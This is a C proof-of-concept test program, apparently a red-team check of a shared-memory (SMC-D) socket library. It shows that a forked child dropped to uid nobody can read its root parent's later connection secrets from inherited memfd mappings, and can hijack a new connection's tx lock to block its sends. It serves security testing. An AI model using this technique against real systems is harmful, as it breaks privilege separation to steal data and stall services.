// red6: what a forked child that drops its privileges keeps of its parent's SMC-D memory.
// gcc -O2 -o rt6 rt6.c -lpthread ; run as root with world.sh smc|tcp ./rt6 SCENARIO and compare.
//
// A root process (a server's master, a privilege-separated program) forks a worker that drops
// to uid nobody (setgroups, setgid, setuid) and never uses the network; the parent goes on
// making connections. A uid boundary is what the worker relies on: it must not reach the
// parent's later connections. With TCP it cannot; with the library, mappings the parent made
// are inherited (MAP_SHARED) and the daemon reuses the memory behind them:
//
// keptfork: conn1 (root client <-> root server process) is short and closed: the library keeps
//   its DMB mappings for reuse (smc-preload dmbs.rs KEPT, with the state slot page) and the
//   daemon pools the DMBs. Then the fork; the child (nobody) notes the memfd mappings it
//   inherited, closes every fd it has. conn2 to the same server: the daemon binds the pooled
//   DMBs again; the parent sends a secret, the server answers one. The child scans its
//   inherited mappings for both secrets, then writes its own bytes into them.
// slotfork: conn A open at the fork, kept open by the child (a worker that does not close
//   what it inherited); the parent then makes conn B, whose local state is the next 256-byte
//   slot of the page A's slot is on. The child finds B's slot (magic, not there at the fork)
//   and takes its tx lock (its own pid in the lock word; a live holder is never taken over);
//   the parent then sends 100 bytes on B.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int lport;
static void die(const char *m) { printf("FATAL %s: %s\n", m, strerror(errno)); fflush(stdout); _exit(2); }

static int listener(void) {
  int l = socket(AF_INET, SOCK_STREAM, 0), one = 1;
  setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, 4);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000001)};
  if (bind(l, (void *)&a, sizeof a) || listen(l, 16)) die("listen");
  socklen_t al = sizeof a;
  getsockname(l, (void *)&a, &al);
  lport = ntohs(a.sin_port);
  return l;
}

static int dial(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(lport), .sin_addr.s_addr = htonl(0x7f000001)};
  if (connect(s, (void *)&a, sizeof a)) die("connect");
  return s;
}

static ssize_t readall(int fd, char *b, size_t cap) {
  size_t d = 0;
  for (;;) {
    ssize_t r = read(fd, b + d, cap - d);
    if (r < 0 && errno == EINTR) continue;
    if (r <= 0) return d;
    d += r;
    if (d == cap) return d;
  }
}

static int waitbyte(int fd, int ms) {
  struct pollfd p = {fd, POLLIN, 0};
  if (poll(&p, 1, ms) <= 0) return -1;
  char c;
  return read(fd, &c, 1) == 1 ? c : -1;
}

static double now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1e3 + t.tv_nsec / 1e6;
}

// Server process: for each connection, reads a line-less request to EOF (or `n` bytes), answers
// with `reply` (if any), closes.
#define SERVER_SECRET "SERVER-SECRET-7f3a9c"
#define CLIENT_SECRET "ROOT-CLIENT-SECRET-41d2e8"
static void server(int l, int conns) {
  char b[4096];
  for (int c = 1; c <= conns; c++) {
    int s = accept(l, NULL, NULL);
    if (s < 0) die("accept");
    ssize_t n = readall(s, b, sizeof b - 1);
    b[n] = 0;
    char out[256];
    snprintf(out, sizeof out, "%s conn%d", c == 1 ? "hello" : SERVER_SECRET, c);
    write(s, out, strlen(out));
    close(s);
  }
  _exit(0);
}

struct map { char *p; size_t len; char name[64]; };
static struct map maps[64];
static int nmaps;

// The memfd mappings of this process (read before the uid changes: /proc/self/maps of a
// process that dropped its uid is root's).
static void note_maps(const char *what) {
  FILE *f = fopen("/proc/self/maps", "r");
  char line[512];
  nmaps = 0;
  while (f && fgets(line, sizeof line, f)) {
    unsigned long a, b;
    char perms[8];
    char *name = strstr(line, "/memfd:smc-");
    if (!name || sscanf(line, "%lx-%lx %7s", &a, &b, perms) != 3 || perms[0] != 'r') continue;
    if (nmaps == 64) break;
    maps[nmaps].p = (char *)a;
    maps[nmaps].len = b - a;
    snprintf(maps[nmaps].name, sizeof maps[nmaps].name, "%.*s", (int)strcspn(name + 7, " \n"), name + 7);
    nmaps++;
  }
  if (f) fclose(f);
  printf("child (%s): %d inherited smc memfd mappings\n", what, nmaps);
  fflush(stdout);
}

static void drop_to_nobody(void) {
  if (setgroups(0, NULL) || setgid(65534) || setuid(65534)) die("setuid");
  printf("child: now uid %d\n", getuid());
  fflush(stdout);
}

// keptfork
static int keptfork(void) {
  int l = listener();
  pid_t sp = fork();
  if (sp == 0) server(l, 2);
  close(l);
  char b[4096];
  // conn1: short, closed on both sides: its DMBs are pooled, their mappings kept.
  int c = dial();
  write(c, "hi", 2);
  shutdown(c, SHUT_WR);
  ssize_t n = readall(c, b, sizeof b);
  close(c);
  printf("parent conn1: got %zd bytes\n", n);
  fflush(stdout);
  usleep(100 * 1000);
  int toc[2], fromc[2];
  pipe(toc);
  pipe(fromc);
  pid_t cp = fork();
  if (cp == 0) {
    int in = toc[0], out = fromc[1];
    note_maps("keptfork");
    drop_to_nobody();
    // A worker that does not use the network; it closes what it inherited but our pipes.
    for (int fd = 3; fd < 1024; fd++)
      if (fd != in && fd != out) close(fd);
    write(out, "r", 1);
    waitbyte(in, 10000);
    int found_c = 0, found_s = 0;
    for (int i = 0; i < nmaps; i++) {
      char *p;
      if ((p = memmem(maps[i].p, maps[i].len, CLIENT_SECRET, strlen(CLIENT_SECRET)))) {
        printf("child (nobody) reads the parent's conn2 bytes in %s: \"%.40s\"\n", maps[i].name, p);
        found_c = 1;
      }
      if ((p = memmem(maps[i].p, maps[i].len, SERVER_SECRET, strlen(SERVER_SECRET)))) {
        printf("child (nobody) reads the server's conn2 bytes in %s: \"%.40s\"\n", maps[i].name, p);
        found_s = 1;
      }
    }
    printf("child: client secret %s, server secret %s\n", found_c ? "READ" : "not seen",
           found_s ? "READ" : "not seen");
    fflush(stdout);
    _exit(0);
  }
  close(toc[0]);
  close(fromc[1]);
  if (waitbyte(fromc[0], 5000) != 'r') printf("child not ready\n");
  // conn2 to the same server process, within the pool's idle time.
  c = dial();
  write(c, CLIENT_SECRET " for the server only", strlen(CLIENT_SECRET) + 20);
  shutdown(c, SHUT_WR);
  n = readall(c, b, sizeof b - 1);
  b[n < 0 ? 0 : n] = 0;
  printf("parent conn2: got \"%s\"\n", b);
  fflush(stdout);
  write(toc[1], "g", 1);
  int st;
  waitpid(cp, &st, 0);
  close(c);
  waitpid(sp, &st, 0);
  return 0;
}

// slotfork
static void *sender(void *arg) {
  int fd = *(int *)arg;
  double t0 = now_ms();
  char msg[100];
  memset(msg, 'B', sizeof msg);
  ssize_t r = send(fd, msg, sizeof msg, MSG_NOSIGNAL);
  printf("parent: send on conn B returned %zd after %.0f ms\n", r, now_ms() - t0);
  fflush(stdout);
  return NULL;
}

#define SLOT 256
#define MAGIC 0x534d4353u
static int slotfork(void) {
  int l = listener();
  pid_t sp = fork();
  if (sp == 0) {
    // Keep both connections open until the parent is done.
    int a = accept(l, NULL, NULL), b2 = accept(l, NULL, NULL);
    char b[4096];
    ssize_t n = readall(b2, b, sizeof b);
    printf("server conn B: got %zd bytes\n", n);
    fflush(stdout);
    readall(a, b, sizeof b);
    _exit(0);
  }
  close(l);
  int a = dial();
  write(a, "A", 1);
  int toc[2], fromc[2];
  pipe(toc);
  pipe(fromc);
  pid_t cp = fork();
  if (cp == 0) {
    int in = toc[0], out = fromc[1];
    note_maps("slotfork");
    uint32_t seen[64][16] = {{0}};
    for (int i = 0; i < nmaps; i++)
      if (strstr(maps[i].name, "smc-state") && maps[i].len == 4096)
        for (int k = 0; k < 16; k++) seen[i][k] = *(volatile uint32_t *)(maps[i].p + k * SLOT);
    drop_to_nobody();
    write(out, "r", 1);
    waitbyte(in, 10000);  // the parent made conn B
    int took = 0;
    for (int i = 0; i < nmaps && !took; i++) {
      if (!strstr(maps[i].name, "smc-state") || maps[i].len != 4096) continue;
      for (int k = 0; k < 16; k++) {
        uint32_t *w = (uint32_t *)(maps[i].p + k * SLOT);
        if (seen[i][k] == MAGIC || __atomic_load_n(&w[0], __ATOMIC_ACQUIRE) != MAGIC) continue;
        printf("child (nobody) sees a new connection's state: slot %d of a page it inherited "
               "(refs %u)\n", k, w[1]);
        uint32_t zero = 0, me = getpid();
        if (__atomic_compare_exchange_n(&w[3], &zero, me, 0, __ATOMIC_ACQ_REL, __ATOMIC_ACQUIRE))
          printf("child (nobody) holds that connection's tx lock\n");
        took = 1;
        break;
      }
    }
    if (!took) printf("child: no new connection state seen\n");
    fflush(stdout);
    write(out, "t", 1);
    waitbyte(in, 15000);
    _exit(0);
  }
  close(toc[0]);
  close(fromc[1]);
  if (waitbyte(fromc[0], 5000) != 'r') printf("child not ready\n");
  int bconn = dial();
  write(toc[1], "g", 1);
  waitbyte(fromc[0], 5000);
  // Send on B with a watchdog (a thread: no other process holds B).
  pthread_t t;
  pthread_create(&t, NULL, sender, &bconn);
  struct timespec dl;
  clock_gettime(CLOCK_REALTIME, &dl);
  dl.tv_sec += 4;
  if (pthread_timedjoin_np(t, NULL, &dl)) {
    printf("parent: send on conn B still blocked after 4000 ms\n");
    fflush(stdout);
  }
  write(toc[1], "e", 1);
  int st;
  waitpid(cp, &st, 0);
  shutdown(bconn, SHUT_WR);
  shutdown(a, SHUT_WR);
  waitpid(sp, &st, 0);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) { fprintf(stderr, "usage: rt6 keptfork|slotfork\n"); return 2; }
  if (!strcmp(argv[1], "keptfork")) return keptfork();
  if (!strcmp(argv[1], "slotfork")) return slotfork();
  fprintf(stderr, "unknown scenario\n");
  return 2;
}
